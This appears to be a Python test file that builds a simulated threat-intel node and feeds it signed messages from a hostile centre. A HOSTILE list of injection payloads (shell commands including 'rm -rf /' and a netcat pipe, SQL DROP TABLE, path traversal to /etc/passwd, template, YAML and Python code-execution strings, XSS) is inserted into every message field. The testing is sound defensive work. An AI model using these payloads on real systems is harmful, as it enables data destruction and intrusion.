"""A whole node before a hostile centre that holds the real signing key: the same parts as for real, on the disk.

The centre may say anything at all, signed, in any order.
"""

import uuid
from dataclasses import dataclass, field
from pathlib import Path

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from bavn.actor.door.books import books_of
from bavn.actor.door.policy import DoorPolicy
from bavn.actor.door.tell_rules import Condition
from bavn.actor.door.terms import Keys
from bavn.actor.node.build import NodeOutfit, gates_of
from bavn.actor.node.settings import NodeSettings
from bavn.actor.protect.carriers import Enforcers
from bavn.actor.protect.enforcers.rpz_primary import RpzPrimary
from bavn.actor.protect.enforcers.textlist import TextList
from bavn.actor.protect.never import NeverBlock, shipped_text
from bavn.actor.protect.outfit import ProtectOutfit
from bavn.actor.protect.own_history import History
from bavn.actor.protect.policy import ProtectPolicy
from bavn.actor.store.columns import ColumnStore
from bavn.actor.store.query.hunt import hunt
from bavn.model.forms import forms
from bavn.model.intel.indicator import Indicator, Pap, Tlp, indicator_id
from bavn.model.moment import DAY_US, HOUR_US, MINUTE_US
from bavn.model.observable import Observable
from bavn.psi.identifier import LocalIdentifiers
from bavn.rehearsal.clock import SimClock
from bavn.rehearsal.script import suspicion
from bavn.traffic.dice import SeededDice
from bavn.wire import seal
from bavn.wire.book import Book
from bavn.wire.codec import UP_KINDS
from bavn.wire.messages import catalogue as messages
from bavn.wire.messages.canary import CanaryAnswered
from bavn.wire.messages.commons import CommonsAnswered
from bavn.wire.messages.log import FixedRound, LogProof, LogProven, LogShown, RoundsFixed
from bavn.wire.partners.stix_indicator import bundle_of

NOW_US = 20_600 * DAY_US + 9 * HOUR_US
HOMES = ("10.0.0.0/8", "185.19.132.0/24")
OWN_DOMAIN, CENTRE_NAME = "region-nord.dk", "centre.sektor.dk"
AUTHOR = "identity--5a4c9f6e-2a63-4b7c-9d7e-0f3a1c2b4d5e"


@dataclass
class Wire:
    """The link of a node to a centre that is nothing but this test."""

    down: list = field(default_factory=list)
    up: list = field(default_factory=list)

    def post(self, envelopes):
        self.up += envelopes
        return [seal.address(raw).seq for raw in envelopes]

    def pull(self, after, wait_s):
        return [raw for raw in self.down if seal.address(raw).seq > after]


class Node:
    def __init__(self, folder: Path, door=None, protect=None, sensor=True):
        self.folder, self.clock, self.book = folder, SimClock(NOW_US), Book()
        self.centre, self.key = Ed25519PrivateKey.generate(), Ed25519PrivateKey.generate()
        self.wire, self.seq = Wire(), 0
        (folder / "lists").mkdir()
        self.list, self.zone = TextList(folder / "lists", children=True), RpzPrimary(folder / "bavn.zone")
        self.books = books_of(self.book)
        self.store = ColumnStore.open(folder / "store", homes=HOMES) if sensor else None
        never = NeverBlock.of(
            shipped_text(), "shipped", own_domains=(OWN_DOMAIN,), own_networks=HOMES, centre=(CENTRE_NAME,)
        )
        protecting = ProtectOutfit(
            clock=self.clock,
            policy=protect or ProtectPolicy(),
            never=never,
            enforcers=Enforcers((self.list, self.zone), ()),
            homes=HOMES,
            history=History(self.store.window, hunt) if self.store else None,
        )
        self.suspects(suspicion((Observable.of("domain", "only-here.net"),), 1e-4, "10.1.2.3", NOW_US))
        outfit = NodeOutfit(
            name="north",
            homes=HOMES,
            clock=self.clock,
            dice=SeededDice(3, "north"),
            noise=lambda given, *_: list(given),
            policy=door or DoorPolicy(),
            settings=NodeSettings(version="1"),
        )
        keys = Keys(own=self.key, centre=self.centre.public_key(), secret=b"s" * 32)
        health = Condition(
            version="1", sensor="up", capture_loss_permille=0, clock_skew_s=0, queue_messages=0, last_round=None
        )
        gates = gates_of(
            outfit, protecting, self.books, keys, LocalIdentifiers(bytes(range(32))), self.wire, lambda _: health
        )
        self.protect, self.door, self.talker = gates.protect, gates.door, gates.talker
        self.talker.start()

    def suspects(self, *found):
        """This is what is suspicious now."""
        self.books.known.replace(found, self.clock.now_us())

    def says(self, *said):
        """The centre signs and sends; the node talks."""
        for message in said:
            self.seq += 1
            self.wire.down.append(seal.seal(self.centre, "centre", "north", self.seq, message))
        self.talker.talk()
        self.wire.down.clear()

    def blocked(self):
        return {block.observable.value for block in self.protect.state.blocks("block", self.clock.now_us())}

    def on_disk(self):
        """Everything that any enforcer has written."""
        names = (
            (self.folder / "lists" / "domain.txt").read_text()
            if (self.folder / "lists" / "domain.txt").exists()
            else ""
        )
        addresses = (
            (self.folder / "lists" / "ip.txt").read_text() if (self.folder / "lists" / "ip.txt").exists() else ""
        )
        return names, addresses, (self.folder / "bavn.zone").read_text()

    def said(self):
        return [seal.open({"north": self.key.public_key()}, "centre", raw, UP_KINDS).message for raw in self.wire.up]

    def close(self):
        self.book.close()
        if self.store:
            self.store.close()


def bundle(observable, version=NOW_US, **other):
    made = Indicator(
        **{
            "id": indicator_id(observable),
            "version": version,
            "observable": observable,
            "tlp": Tlp.AMBER,
            "pap": Pap.CLEAR,
            "confidence": 100,
            "valid_from_us": NOW_US,
            "valid_until_us": NOW_US + 30 * DAY_US,
            "case_id": "case-00000000000000aa",
            "technique": "T1071",
        }
        | other
    )
    return bundle_of(made, created_by=AUTHOR, created_us=min(version, NOW_US))


def release(name, **other):
    return messages.IndicatorReleased(bundle=bundle(Observable.of("domain", name), **other))


HOSTILE = [
    "$(touch /tmp/owned)",
    "`id`",
    "; rm -rf /",
    "| nc 198.51.100.9 1",
    "{{ 7*7 }}",
    "{0.__class__}",
    "%n%n%s",
    "' OR 1=1; DROP TABLE protect_item; --",
    "../../../../etc/passwd",
    "\x00",
    "__import__('os').system('id')",
    "copy (select 1) to 'x'",
    "!!python/object/apply:os.system [id]",
    "\n@ IN A 203.0.113.9\n",
    "<script>alert(1)</script>",
]


def every_kind(text):
    """One message of each kind that comes down, with this text wherever any text may stand."""
    why = (text.replace("\x00", "") or "x")[:200]
    member = (
        messages.Member(actor="north", x=1),
        messages.Member(actor="south", x=2),
        messages.Member(actor="west", x=3),
    )
    round_id = "ab" * 16
    yield messages.RoundOpened(
        round_id=round_id,
        version=1,
        epoch=NOW_US // DAY_US,
        registry_version=1,
        tier="B",
        t=3,
        m=50,
        r=10,
        forms=forms(),
        deadline_us=NOW_US + 10 * MINUTE_US,
        members=member,
    )
    cells = tuple(messages.AskedCell(table=t, bin=b) for t in range(3) for b in range(20))
    yield messages.ReceiptsAsked(round_id=round_id, cells=cells)
    others = ("0" * 64, "1" * 64)
    yield messages.RevealAsked(
        round_id=round_id, items=tuple(messages.Reveal(table=c.table, bin=c.bin, others=others) for c in cells)
    )
    yield messages.IndicatorReleased(bundle=text)
    yield messages.IndicatorReleased(bundle=bundle(Observable.of("domain", "evil.com")).replace("evil.com", text))
    yield messages.IndicatorWithdrawn(indicator_id=f"indicator--{uuid.UUID(int=9, version=4)}", version=1)
    yield messages.SectorSwitched(number=1, state="off", at_us=0, by="Anna Berg", why=why)
    yield messages.QuestionAsked(
        question_id="0d" * 16,
        observables=(messages.AskedObservable(type="domain", value=why[:200]),),
        since_hour=0,
        asked_us=NOW_US,
        until_us=NOW_US + DAY_US,
        asked_by="Anna Berg",
        approved_by="Bo Lund",
        why=why,
    )
    yield messages.RadiusAsked(
        question_id="0f" * 16,
        observables=(messages.AskedObservable(type="domain", value=why[:200]),),
        since_hour=0,
        asked_us=NOW_US,
        until_us=NOW_US + DAY_US,
        asked_by="Anna Berg",
        approved_by="Bo Lund",
        why=why,
    )
    yield messages.CasePart(
        case_id="case-00000000000000aa",
        version=1,
        state="triage",
        techniques=(),
        tlp="TLP:AMBER",
        pap=2,
        clocks=(),
        own=(messages.AskedObservable(type="domain", value=why),),
        tasks=(
            messages.PartTask(
                task_id="0e" * 16,
                kind="task",
                text=why,
                state="open",
                acknowledge_us=NOW_US,
                applies_us=NOW_US,
                done_us=NOW_US,
            ),
        ),
        words=(messages.PartWords(at_us=NOW_US, by="centre", text=why),),
    )
    yield messages.VerdictGiven(
        case_id="case-00000000000000aa",
        version=1,
        judged="malicious",
        until_us=NOW_US + DAY_US,
        observables=(messages.AskedObservable(type="domain", value=why),),
    )
    yield messages.WarningGiven(
        warning_id="warning-00000000000000aa",
        version=1,
        state="sent",
        urgency="critical",
        title_en=why[:120],
        title_da=why[:120],
        text_en=why,
        text_da=why,
        tlp="TLP:AMBER",
        pap=2,
        sent_us=NOW_US,
        observables=(messages.AskedObservable(type="domain", value=why),),
        acknowledge_us=NOW_US + DAY_US,
        until_us=NOW_US + DAY_US,
    )
    yield CanaryAnswered(day=NOW_US // DAY_US, run=1)
    yield CommonsAnswered(round_id=round_id, groups=2**31 - 1, other_keys=0, cells=b"\x55" * 1000)
    yield LogShown(key=why[:300], checkpoint=why[:1000], since=2**48 - 1, proof=("f" * 64,) * 64)
    proof = LogProof(entry=why, index=2**48 - 1, path=("f" * 64,) * 64, content="f" * 64, salt="f" * 64)
    yield LogProven(checkpoint=text.replace("\x00", "") or "x", proofs=(proof,) * 50)
    fixed = FixedRound(
        round_id=round_id,
        uploads=why[:1000],
        uploads_index=0,
        uploads_path=("f" * 64,) * 64,
        hits=why[:1000],
        hits_index=2**48 - 1,
        hits_path=("f" * 64,) * 64,
        place=999,
        path=("f" * 64,) * 10,
    )
    yield RoundsFixed(size=2**48 - 1, root="f" * 64, rounds=(fixed,) * 20)
    yield messages.RoundClosed(round_id=round_id)
